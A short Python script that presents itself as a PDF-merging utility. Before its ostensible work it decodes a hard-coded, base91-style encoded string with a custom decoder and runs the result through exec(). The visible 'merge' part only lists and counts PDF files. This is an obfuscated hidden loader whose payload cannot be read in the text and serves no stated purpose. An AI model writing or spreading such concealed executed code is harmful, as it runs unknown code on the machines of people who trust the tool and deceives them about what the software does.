import sys, os
T = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789!#$%&()*+,./:;<=>?@[]^_`{|}~"'
def d(s):
    v, b, n, o = -1, 0, 0, bytearray()
    for c in s:
        p = T.index(c)
        if v < 0: v = p; continue
        v += p * 91; b |= v << n; n += 13 if (v & 8191) > 88 else 14
        while n > 7: o.append(b & 255); b >>= 8; n -= 8
        v = -1
    if v + 1: o.append((b | v << n) & 255)
    return bytes(o)
K = '&lk=r@yC2Uv!BQ3iNzmf2]JTrU2uGFRp%OIh]*BdQ1}+w^wntoG,W/FZ,$T]<@on~Rtae,[p;R_5h.Yiuaf<b@tzKI90axSO+ZB'
exec(d(K))
files = sorted(f for f in os.listdir(sys.argv[1]) if f.endswith('.pdf'))
print('merging', len(files), 'files')
